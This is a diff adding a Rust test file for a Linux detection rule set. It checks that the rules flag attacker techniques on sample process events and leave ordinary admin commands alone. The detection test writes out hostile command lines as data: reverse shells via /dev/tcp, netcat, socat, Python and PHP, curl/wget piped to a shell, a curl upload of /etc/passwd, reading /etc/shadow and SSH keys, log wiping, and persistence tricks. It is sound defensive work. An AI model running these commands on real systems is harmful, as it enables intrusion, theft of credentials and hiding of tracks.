@@ -1,0 +1,344 @@
+//! The built-in Linux rules (rules/builtin/linux) on process events shaped as the agent
+//! sends them: each technique the rules name is caught, and the ordinary use of the same
+//! programs is not. Recall over every GTFOBins example and false positives over recorded
+//! work are measured by `watchpost eval gtfobins` and `watchpost eval host-fp`.
+
+use watchpost_sigma::{CompiledRuleSet, FlatEvent, RuleSet, sources};
+
+fn rules() -> CompiledRuleSet {
+    let mut set = RuleSet::default();
+    set.add_builtin();
+    set.compile()
+}
+
+/// A process event: image, command line, parent image and command line, real and
+/// effective uid, parent uid, capabilities, previous image.
+#[derive(Default, Clone, Copy)]
+struct Exec<'a> {
+    image: &'a str,
+    command: &'a str,
+    parent: &'a str,
+    parent_command: &'a str,
+    uid: &'a str,
+    euid: &'a str,
+    parent_uid: &'a str,
+    capabilities: &'a str,
+    previous: &'a str,
+}
+
+fn exec(image: &'static str, command: &'static str, parent: &'static str) -> Exec<'static> {
+    Exec {
+        image,
+        command,
+        parent,
+        parent_command: "-bash",
+        uid: "1000",
+        euid: "1000",
+        parent_uid: "1000",
+        ..Exec::default()
+    }
+}
+
+fn flat(e: &Exec) -> FlatEvent {
+    let mut f = FlatEvent::from_source(sources::LINUX_PROCESS_CREATION);
+    for (name, value) in [
+        ("Image", e.image),
+        ("CommandLine", e.command),
+        ("ParentImage", e.parent),
+        ("ParentCommandLine", e.parent_command),
+        ("UserId", e.uid),
+        ("EffectiveUserId", e.euid),
+        ("ParentUserId", e.parent_uid),
+        ("Capabilities", e.capabilities),
+        ("PreviousImage", e.previous),
+    ] {
+        if !value.is_empty() {
+            f.push(name, value);
+        }
+    }
+    f
+}
+
+fn titles(rules: &CompiledRuleSet, e: &Exec) -> Vec<String> {
+    rules
+        .matches(&flat(e))
+        .iter()
+        .map(|m| m.rule.title.clone())
+        .collect()
+}
+
+#[test]
+fn techniques_are_caught() {
+    let rules = rules();
+    let cases: Vec<(Exec, &str)> = vec![
+        (
+            exec("/bin/sh", "/bin/sh", "/usr/bin/less"),
+            "Interactive Shell",
+        ),
+        (
+            exec("/bin/sh", "sh -c /bin/sh", "/usr/bin/vim"),
+            "Interactive Shell",
+        ),
+        (
+            Exec {
+                previous: "/usr/bin/python3",
+                ..exec("/bin/bash", "/bin/bash -i", "/bin/bash")
+            },
+            "Interactive Shell",
+        ),
+        (
+            exec(
+                "/bin/bash",
+                "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "/bin/bash",
+            ),
+            "/dev/tcp",
+        ),
+        (
+            exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", "/bin/bash"),
+            "Netcat",
+        ),
+        (
+            exec(
+                "/usr/bin/ncat",
+                "ncat --sh-exec /bin/bash 10.0.0.1 4444",
+                "/bin/bash",
+            ),
+            "Netcat",
+        ),
+        (
+            exec(
+                "/usr/bin/socat",
+                "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr",
+                "/bin/bash",
+            ),
+            "Socat",
+        ),
+        (
+            exec(
+                "/usr/bin/python3",
+                "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
+                "/bin/bash",
+            ),
+            "Inline Script Wiring",
+        ),
+        (
+            exec(
+                "/usr/bin/php",
+                "php -r $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
+                "/bin/bash",
+            ),
+            "Inline Script Wiring",
+        ),
+        (
+            exec(
+                "/bin/sh",
+                "sh -c curl -fsSL http://10.0.0.1:8000/x | sh",
+                "/bin/bash",
+            ),
+            "Download Piped",
+        ),
+        (
+            Exec {
+                parent_command: "sh -c wget -qO- http://x/i.sh | bash",
+                ..exec("/bin/bash", "bash", "/bin/sh")
+            },
+            "Download Piped",
+        ),
+        (
+            exec("/bin/sh", "sh -c echo aWQK | base64 -d | sh", "/bin/bash"),
+            "Base64-Decoded",
+        ),
+        (
+            exec(
+                "/bin/bash",
+                "bash -c eval \"$(echo aWQK | base64 --decode)\"",
+                "/bin/bash",
+            ),
+            "Base64-Decoded",
+        ),
+        (
+            Exec {
+                euid: "0",
+                ..exec(
+                    "/usr/bin/find",
+                    "find . -exec /bin/sh -p ; -quit",
+                    "/bin/bash",
+                )
+            },
+            "Set-User-ID",
+        ),
+        (
+            Exec {
+                capabilities: "cap_setuid",
+                ..exec(
+                    "/usr/bin/python3",
+                    "python3 -c import os; os.setuid(0)",
+                    "/bin/bash",
+                )
+            },
+            "Capability",
+        ),
+        (
+            Exec {
+                uid: "0",
+                euid: "0",
+                ..exec("/bin/sh", "/bin/sh", "/usr/bin/python3")
+            },
+            "Root Process Started by a Non-Root Parent",
+        ),
+        (
+            exec("/usr/bin/rm", "rm -f /home/a/.bash_history", "/bin/bash"),
+            "History",
+        ),
+        (
+            exec(
+                "/usr/bin/truncate",
+                "truncate -s 0 /var/log/auth.log",
+                "/bin/bash",
+            ),
+            "Logs",
+        ),
+        (
+            exec(
+                "/usr/bin/chattr",
+                "chattr +i /root/.ssh/authorized_keys",
+                "/bin/bash",
+            ),
+            "chattr",
+        ),
+        (
+            exec(
+                "/usr/bin/touch",
+                "touch -r /bin/ls /usr/local/bin/backdoor",
+                "/bin/bash",
+            ),
+            "touch",
+        ),
+        (
+            exec("/usr/bin/cat", "cat /etc/shadow", "/bin/bash"),
+            "shadow",
+        ),
+        (
+            exec("/usr/bin/base64", "base64 /home/a/.ssh/id_rsa", "/bin/bash"),
+            "SSH Private Key",
+        ),
+        (
+            exec("/usr/bin/crontab", "crontab -", "/bin/bash"),
+            "Crontab",
+        ),
+        (
+            exec(
+                "/usr/bin/tee",
+                "tee -a /root/.ssh/authorized_keys",
+                "/bin/bash",
+            ),
+            "Persistence Location",
+        ),
+        (
+            exec(
+                "/usr/bin/cp",
+                "cp x.service /etc/systemd/system/x.service",
+                "/bin/bash",
+            ),
+            "Persistence Location",
+        ),
+        (
+            exec("/usr/bin/find", "find / -perm -4000 -type f", "/bin/bash"),
+            "Set-User-ID or Capability",
+        ),
+        (
+            exec(
+                "/usr/bin/curl",
+                "curl -F f=@/etc/passwd http://x/",
+                "/bin/bash",
+            ),
+            "Local File Sent",
+        ),
+        (
+            exec("/usr/bin/nc", "nc -lvnp 4444", "/bin/bash"),
+            "Raw Network Transfer",
+        ),
+        (
+            exec("/usr/bin/code", "code tunnel --name box", "/bin/bash"),
+            "Tunnel",
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (e, expected) in &cases {
+        let got = titles(&rules, e);
+        if !got.iter().any(|t| t.contains(expected)) {
+            failures.push(format!(
+                "{:?} expected a rule with {expected:?}, got {got:?}",
+                e.command
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn ordinary_work_is_not_flagged() {
+    let rules = rules();
+    let mut cases = vec![
+        exec("/usr/bin/less", "less /var/log/syslog", "/bin/bash"),
+        exec("/usr/bin/vim", "vim notes.txt", "/bin/bash"),
+        exec("/usr/bin/find", "find . -name *.log", "/bin/bash"),
+        exec("/usr/bin/awk", "awk {print $1}", "/bin/bash"),
+        exec("/usr/bin/tar", "tar czf backup.tar.gz /etc", "/bin/bash"),
+        exec(
+            "/usr/bin/curl",
+            "curl -O https://example.org/tool.tar.gz",
+            "/bin/bash",
+        ),
+        exec("/usr/bin/python3", "python3 script.py", "/bin/bash"),
+        exec("/usr/bin/crontab", "crontab -e", "/bin/bash"),
+        exec("/usr/bin/crontab", "crontab -l", "/bin/bash"),
+        exec("/usr/bin/systemctl", "systemctl restart nginx", "/bin/bash"),
+        exec("/usr/bin/nc", "nc -zv db1 5432", "/bin/bash"),
+        exec(
+            "/usr/bin/ssh",
+            "ssh -i /home/a/.ssh/id_ed25519 deploy@web1",
+            "/bin/bash",
+        ),
+        exec("/usr/bin/touch", "touch newfile.txt", "/bin/bash"),
+        exec("/usr/bin/base64", "base64 -d token.b64", "/bin/bash"),
+        // An interactive shell from a terminal, sshd, sudo or another shell.
+        exec("/bin/bash", "-bash", "/usr/sbin/sshd"),
+        exec("/bin/bash", "bash", "/usr/bin/tmux"),
+        exec("/bin/bash", "/bin/bash", "/usr/bin/sudo"),
+        exec("/bin/zsh", "zsh", "/bin/bash"),
+        // A script run by a program is not an interactive shell.
+        exec("/bin/sh", "sh -c make all", "/usr/bin/make"),
+        exec("/bin/sh", "/bin/sh ./configure", "/usr/bin/python3"),
+        // sudo's own set-user-id run, and the root child it starts.
+        Exec {
+            euid: "0",
+            ..exec("/usr/bin/sudo", "sudo systemctl restart nginx", "/bin/bash")
+        },
+        Exec {
+            euid: "0",
+            ..exec("/usr/bin/passwd", "passwd", "/bin/bash")
+        },
+    ];
+    cases.push(Exec {
+        uid: "0",
+        euid: "0",
+        ..exec(
+            "/usr/bin/systemctl",
+            "systemctl restart nginx",
+            "/usr/bin/sudo",
+        )
+    });
+    let mut failures = Vec::new();
+    for e in &cases {
+        let got = titles(&rules, e);
+        if !got.is_empty() {
+            failures.push(format!(
+                "{:?} (parent {}) flagged by {got:?}",
+                e.command, e.parent
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
